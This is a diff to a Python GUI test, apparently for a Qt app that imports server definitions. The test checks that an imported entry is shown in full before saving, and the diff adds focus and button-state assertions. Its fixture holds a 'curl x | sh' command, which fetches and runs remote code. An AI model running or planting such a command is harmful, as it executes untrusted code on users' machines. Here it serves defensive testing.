@@ -501,7 +501,11 @@ def test_servers_are_shown_whole_before_they_are_saved(start: Start) -> None:
     assert host.servers == ()
     assert '"sh" "-c" "curl x | sh"  A=b' in window.note.text()
     assert window.save.text() == "Save"
+    run.until(window.isActiveWindow)
+    window.save.setFocus()
     window.save.click()
+    assert window.text.hasFocus(), "not on Import"
+    assert not [b for b in window.findChildren(QPushButton) if b.text() == "Stop"], "it is not on"
     assert [server.name for server in host.servers] == ["sly"]
     assert (window.note.text(), window.save.isEnabled()) == ("Saved", False)
     assert host.file is not None
